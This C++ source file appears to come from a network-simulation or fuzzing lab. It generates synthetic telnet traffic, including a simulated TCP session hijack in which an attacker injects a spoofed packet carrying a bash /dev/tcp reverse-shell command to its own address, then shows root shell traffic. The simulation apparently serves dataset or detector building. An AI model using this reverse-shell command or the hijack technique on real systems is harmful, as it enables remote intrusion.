#include "netsim_detail.hpp"

namespace fuzzlab::detail {
namespace {

constexpr std::uint64_t kTelnetPort = 23;
constexpr std::uint64_t kIdleTicks = 10;

const std::vector<LayerKind> kData{LayerKind::Eth, LayerKind::Ip, LayerKind::Tcp, LayerKind::Telnet};
const std::vector<LayerKind> kBare{LayerKind::Eth, LayerKind::Ip, LayerKind::Tcp};

bool control_accepts_data(std::uint64_t control) { return (control & 0x10) != 0 && (control & 0x07) == 0; }

class TelnetRun {
 public:
  TelnetRun(Mode mode, const FuzzPlan& plan, std::uint64_t seed, const ScenarioOptions& o)
      : mode_(mode), plan_(plan), o_(o), lan_(o.space), world_(derive_seed(seed, "world")),
        fuzz_(derive_seed(seed, "fuzz")) {
    server_ = lan_.host(add_leased_host(lan_, Role::Server, world_));
    client_ = lan_.host(add_leased_host(lan_, Role::Client, world_));
    attacker_ = lan_.host(add_leased_host(lan_, Role::Attacker, world_));
    cseq_ = world_.uniform(0, 0xffffffff);
    sseq_ = world_.uniform(0, 0xffffffff);
    port_ = world_.uniform(49152, 65535);
  }

  Session run() {
    s_.meta["reverse_shell"] = false;
    s_.meta["injected"] = nlohmann::json::array();
    s_.meta["post_shell"] = nlohmann::json::array();

    send(true, 0x02, {});
    send(false, 0x12, {});
    send(true, 0x10, {});
    const Bytes options[] = {{0xff, 0xfb, 0x18}, {0xff, 0xfb, 0x1f}, {0xff, 0xfd, 0x03}};
    for (const auto& opt : options) {
      send(true, 0x18, opt);
      send(false, 0x18, Bytes{0xff, 0xfd, opt[2]});
    }
    exchange("alice\r\n", "Password: ");
    exchange("Winter2023!\r\n", "Welcome\r\n$ ");

    const auto& commands = benign_commands();
    const std::size_t n = mode_ == Mode::Malicious ? 1 : o_.telnet_commands;
    for (std::size_t i = 0; i < n; ++i) {
      const std::string& cmd = commands[world_.index(commands.size())];
      exchange(cmd + "\r\n", "output of " + cmd + "\r\n$ ");
    }

    if (mode_ == Mode::Malicious) {
      inject();
      lan_.advance_to(lan_.now() + kIdleTicks);
    }

    // The client's exit; after a hijack its sequence number is stale and the server drops it.
    const bool desynced = s_.meta["reverse_shell"].get<bool>();
    send(true, 0x18, to_bytes("exit\r\n"));
    if (!desynced) {
      send(false, 0x11, {});
      send(true, 0x11, {});
      send(false, 0x10, {});
    }
    return std::move(s_);
  }

 private:
  void send(bool from_client, std::uint64_t control, const Bytes& data) {
    const Host& a = from_client ? client_ : server_;
    const Host& b = from_client ? server_ : client_;
    Packet p = ip_packet(data.empty() ? kBare : kData, a.mac, b.mac, a.ip, b.ip, IpHeader{});
    std::uint64_t& seq = from_client ? cseq_ : sseq_;
    const std::uint64_t ack = from_client ? sseq_ : cseq_;
    set_tcp(p, from_client ? TcpHeader{port_, kTelnetPort, seq, ack, control}
                           : TcpHeader{kTelnetPort, port_, seq, ack, control});
    if (!data.empty()) p.assign("telnet.data", data);
    seq = (seq + data.size() + ((control & 0x03) != 0 ? 1 : 0)) & 0xffffffffULL;
    lan_.advance_to(lan_.now() + o_.benign_delay);
    capture(s_, dir_of(a, b), p, lan_.now());
  }

  void exchange(const std::string& request, const std::string& response) {
    send(true, 0x18, to_bytes(request));
    send(false, 0x18, to_bytes(response));
  }

  void inject() {
    const std::string cmd = "bash -i >& /dev/tcp/" + ipv4_to_string(attacker_.ip) + "/4444 0>&1\r\n";
    // Header values copied from the sniffed client traffic.
    Packet p = ip_packet(kData, attacker_.mac, server_.mac, client_.ip, server_.ip, IpHeader{});
    set_tcp(p, TcpHeader{port_, kTelnetPort, cseq_, sseq_, 0x18});
    p.assign("telnet.data", to_bytes(cmd));
    p = finalize(fuzz_packet(std::move(p), plan_, fuzz_, o_.space));
    lan_.advance_to(lan_.now() + o_.attacker_delay);
    s_.meta["injected"].push_back(s_.packets.size());
    capture(s_, dir_of(attacker_, server_), p, lan_.now());

    const bool accepted = p.get_uint("tcp.sport") == port_ && p.get_uint("tcp.dport") == kTelnetPort &&
                          p.get_uint("tcp.seq") == cseq_ && control_accepts_data(p.get_uint("tcp.control"));
    if (!accepted) return;
    s_.meta["reverse_shell"] = true;
    // The server acknowledges the spoofed data; the real client never learns of it.
    const std::uint64_t real = cseq_;
    cseq_ = (cseq_ + p.get_bytes("telnet.data").size()) & 0xffffffffULL;
    send(false, 0x10, {});
    cseq_ = real;
    reverse_shell();
  }

  void reverse_shell() {
    std::uint64_t sseq = world_.uniform(0, 0xffffffff);
    std::uint64_t aseq = world_.uniform(0, 0xffffffff);
    const std::uint64_t port = world_.uniform(49152, 65535);
    auto shell = [&](bool from_server, std::uint64_t control, const Bytes& data) {
      const Host& a = from_server ? server_ : attacker_;
      const Host& b = from_server ? attacker_ : server_;
      Packet p = ip_packet(data.empty() ? kBare : kData, a.mac, b.mac, a.ip, b.ip, IpHeader{});
      std::uint64_t& seq = from_server ? sseq : aseq;
      set_tcp(p, from_server ? TcpHeader{port, kShellPort, sseq, aseq, control}
                             : TcpHeader{kShellPort, port, aseq, sseq, control});
      if (!data.empty()) p.assign("telnet.data", data);
      seq = (seq + data.size() + ((control & 0x03) != 0 ? 1 : 0)) & 0xffffffffULL;
      lan_.advance_to(lan_.now() + o_.benign_delay);
      s_.meta["post_shell"].push_back(s_.packets.size());
      capture(s_, dir_of(a, b), p, lan_.now());
    };
    shell(true, 0x02, {});
    shell(false, 0x12, {});
    shell(true, 0x10, {});
    shell(false, 0x18, to_bytes("id\n"));
    shell(true, 0x18, to_bytes("uid=0(root) gid=0(root)\n"));
  }

  Mode mode_;
  const FuzzPlan& plan_;
  const ScenarioOptions& o_;
  Lan lan_;
  Rng world_;
  Rng fuzz_;
  Session s_;
  Host server_;
  Host client_;
  Host attacker_;
  std::uint64_t cseq_ = 0;
  std::uint64_t sseq_ = 0;
  std::uint64_t port_ = 0;
};

}  // namespace

Session simulate_telnet(Mode mode, const FuzzPlan& plan, std::uint64_t seed, const ScenarioOptions& o) {
  return TelnetRun(mode, plan, seed, o).run();
}

}  // namespace fuzzlab::detail
